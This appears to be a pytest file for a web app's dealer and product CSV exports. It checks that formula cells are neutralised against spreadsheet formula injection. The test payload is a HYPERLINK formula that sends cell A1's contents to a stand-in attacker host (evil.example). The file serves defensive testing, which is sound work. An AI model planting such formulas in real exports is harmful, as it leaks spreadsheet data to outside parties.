"""Data that leaves the system: every CSV/xlsx export neutralises formula cells (one helper)."""
import io

from openpyxl import load_workbook

from core.extensions import db
from core.testing import login_as, make_category, make_dealer, make_product, make_user

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_dealer_and_product_exports_neutralise_formulas(app, client):
    make_user("admin")
    make_dealer("D1", name=EVIL)
    make_product("P1", category=make_category(), name="+SUM(1,2)")
    login_as(client, "admin")
    dealers = client.get("/dealers/export.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in dealers and ",=HYPERLINK" not in dealers  # before: a live formula
    products = client.get("/products/export.csv").get_data(as_text=True)
    assert "'+SUM(1,2)" in products and ",+SUM" not in products
